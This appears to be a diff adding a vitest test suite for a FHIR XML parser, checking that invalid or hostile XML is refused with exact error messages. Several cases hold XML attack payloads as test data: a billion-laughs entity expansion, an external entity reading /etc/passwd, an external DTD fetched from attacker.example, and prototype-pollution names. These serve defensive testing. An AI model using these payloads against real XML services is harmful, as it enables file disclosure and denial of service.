@@ -1,0 +1,192 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { fromXml } from '../../../src/fhir/core/xml/from-xml.ts';
+import { XmlFault } from '../../../src/fhir/core/xml/xml-fault.ts';
+import { r4Elements } from '../../../src/fhir/r4/elements.ts';
+
+const FHIR = 'xmlns="http://hl7.org/fhir"';
+const patient = (content: string) => `<Patient ${FHIR}>${content}</Patient>`;
+const narrative = (content: string) =>
+  patient(`<text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">${content}</div></text>`);
+
+const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
+
+describe('XML that is refused, with what is wrong and where', () => {
+  it.each([
+    // OWASP XML External Entity Prevention: no document type declaration at all
+    [
+      'a billion laughs',
+      `<!DOCTYPE Patient [<!ENTITY l0 "lol">${LAUGHS}]>${patient('<language value="&l9;"/>')}`,
+      'Line 1: A document type declaration is not taken',
+    ],
+    [
+      'an external entity',
+      `<!DOCTYPE Patient [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${patient('<language value="&x;"/>')}`,
+      'A document type declaration is not taken',
+    ],
+    [
+      'an external DTD',
+      `<!DOCTYPE Patient SYSTEM "http://attacker.example/a.dtd">${patient('')}`,
+      'A document type declaration is not taken',
+    ],
+    ['an entity nobody declared', patient('<language value="&x;"/>'), 'undefined entity'],
+    [
+      'the name of a property of objects as an entity',
+      patient('<language value="&constructor;"/>'),
+      'undefined entity',
+    ],
+    ['nesting without end', patient('<extension url="a">'.repeat(100_000)), 'It is nested too deep'],
+    ['nesting without end in a narrative', narrative('<b>'.repeat(100_000)), 'The narrative is nested too deep'],
+    [
+      'no namespace',
+      '<Patient><active value="true"/></Patient>',
+      'Patient is not in the namespace http://hl7.org/fhir',
+    ],
+    [
+      'the namespace of something else',
+      '<ClinicalDocument xmlns="urn:hl7-org:v3"/>',
+      'is not in the namespace http://hl7.org/fhir',
+    ],
+    [
+      'an element of another namespace',
+      patient('<x:active xmlns:x="urn:x" value="true"/>'),
+      'x:active is not in the namespace',
+    ],
+    ['a prefix nobody declared', '<f:Patient/>', 'unbound namespace prefix'],
+    ['an unknown resource', `<Patients ${FHIR}/>`, 'Patients is no resource of this version of FHIR'],
+    ['a datatype for a resource', `<HumanName ${FHIR}/>`, 'HumanName is no resource of this version of FHIR'],
+    ['what every object has for a resource', `<constructor ${FHIR}/>`, 'constructor is no resource'],
+    [
+      'an unknown element',
+      patient('\n<surname value="Lee"/>'),
+      'Line 2: Patient has no element surname in this version of FHIR',
+    ],
+    ['what every object has for an element', patient('<__proto__ value="a"/>'), 'Patient has no element __proto__'],
+    [
+      'an unknown element of a datatype',
+      patient('<name><surname value="Lee"/></name>'),
+      'HumanName has no element surname',
+    ],
+    ['JSON’s resourceType', patient('<resourceType value="Group"/>'), 'Patient has no element resourceType'],
+    ['a choice without its type', patient('<deceased value="true"/>'), 'Patient has no element deceased'],
+    [
+      'a type that is none of the choice',
+      patient('<deceasedString value="x"/>'),
+      'Patient has no element deceasedString',
+    ],
+    [
+      'two of a choice',
+      patient('<deceasedBoolean value="true"/><deceasedDateTime value="2020"/>'),
+      'There is more than one deceased[x]',
+    ],
+    [
+      'two of what there is one',
+      patient('<gender value="male"/><gender value="female"/>'),
+      'There is more than one gender',
+    ],
+    ['an unknown attribute', patient('<active value="true" onload="x"/>'), 'active has the attribute onload'],
+    ['an attribute of a resource', `<Patient ${FHIR} id="a"/>`, 'Patient has the attribute id'],
+    ['a value where elements are', patient('<name value="Lee"/>'), 'name has the attribute value'],
+    [
+      'an attribute of another namespace',
+      patient('<active xmlns:x="urn:x" x:value="true"/>'),
+      'active has the attribute x:value',
+    ],
+    [
+      'an element where there is an attribute',
+      patient('<extension><url value="a"/></extension>'),
+      'Extension has no element url',
+    ],
+    ['text', patient('Lee'), 'Patient has text in it'],
+    ['text for a value', patient('<gender>female</gender>'), 'has text in it; in FHIR values are attributes'],
+    ['text in a section', patient('<![CDATA[Lee]]>'), 'Patient has text in it'],
+    ['nothing in an element', patient('<gender/>'), 'gender is empty'],
+    ['nothing in a part', patient('<name></name>'), 'name is empty'],
+    ['no resource where one is due', patient('<contained/>'), 'contained has no resource in it'],
+    [
+      'two resources in one place',
+      patient('<contained><Basic/><Basic/></contained>'),
+      'contained has more than one resource',
+    ],
+    [
+      'a narrative that is not XHTML',
+      patient('<text><div>a</div></text>'),
+      'div is not in the namespace http://www.w3.org/1999/xhtml',
+    ],
+    [
+      'FHIR in a narrative',
+      narrative(`<active ${FHIR} value="true"/>`),
+      'The narrative has active, which is not XHTML',
+    ],
+    [
+      'words for a number',
+      `<Observation ${FHIR}><valueInteger value="many"/></Observation>`,
+      'valueInteger is not a number such as 1.50',
+    ],
+    [
+      'what JavaScript takes for a number',
+      `<Observation ${FHIR}><valueInteger value="0x10"/></Observation>`,
+      'valueInteger is not a number',
+    ],
+    [
+      'a number without end',
+      `<Observation ${FHIR}><valueQuantity><value value="INF"/></valueQuantity></Observation>`,
+      'value is not a number',
+    ],
+    ['1 for true', patient('<active value="1"/>'), 'active is neither true nor false'],
+    ['what is not well-formed', patient('<name><text value="a"/></nam></name>'), 'It is not well-formed XML: '],
+    ['two documents', `${patient('')}${patient('')}`, 'It is not well-formed XML: '],
+    ['nothing', '', 'It is not well-formed XML: '],
+    ['a character XML does not have', patient('<language value="a&#0;"/>'), 'It is not well-formed XML: '],
+    [
+      'XML 1.1, which has more characters',
+      `<?xml version="1.1"?>${patient('<language value="a&#1;"/>')}`,
+      'It is not well-formed XML: ',
+    ],
+    ['JSON', '{"resourceType":"Patient"}', 'It is not well-formed XML: '],
+    ['more than anybody has to say', ' '.repeat((1 << 25) + 1), 'It is longer than'],
+  ])('%s', (_, xml, words) => {
+    const began = performance.now();
+    expect(() => fromXml(xml, r4Elements)).toThrow(XmlFault);
+    expect(() => fromXml(xml, r4Elements)).toThrow(words);
+    expect(performance.now() - began).toBeLessThan(5_000);
+  });
+
+  it('anything at all: it is read, or refused as such', () => {
+    const pieces = fc.constantFrom(
+      '<Patient xmlns="http://hl7.org/fhir">',
+      '</Patient>',
+      '<name>',
+      '</name>',
+      '<text value="a"/>',
+      '<text>',
+      '</text>',
+      '<div xmlns="http://www.w3.org/1999/xhtml">',
+      '</div>',
+      '<contained>',
+      '</contained>',
+      '<extension url="a">',
+      '</extension>',
+      '<birthDate value="1970"/>',
+      '<![CDATA[',
+      ']]>',
+      '<!--',
+      '-->',
+      '&amp;',
+      '&nbsp;',
+      ' ',
+      'a',
+    );
+    fc.assert(
+      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
+        const xml = parts.join('');
+        try {
+          expect(JSON.parse(fromXml(xml, r4Elements)).resourceType).toBe('Patient');
+        } catch (error) {
+          expect(error).toBeInstanceOf(XmlFault);
+        }
+      }),
+      { seed: 1, numRuns: 1_000 },
+    );
+  });
+});
